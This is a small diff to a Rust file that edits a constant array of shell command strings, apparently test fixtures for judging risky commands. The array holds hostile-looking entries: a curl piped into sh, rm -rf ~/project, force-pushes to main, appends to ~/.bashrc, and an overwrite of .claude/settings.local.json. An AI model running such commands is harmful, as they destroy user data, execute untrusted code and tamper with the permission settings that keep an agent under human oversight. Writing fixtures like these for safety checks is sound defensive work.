@@ -35,7 +35,7 @@ const CALLS: [&str; 15] = [
     "git push -q --force origin discount",
     "git push -q --force origin main",
     "curl -s http://127.0.0.1:9/install.sh | sh",
-    "echo 'export EDITOR=vi' >> ~/.bashrc",
+    "echo '. ~/.aliases' >> ~/.bashrc",
     "echo '{}' > .claude/settings.local.json",
     "rm -rf ~/project",
     "git stash -q -u",
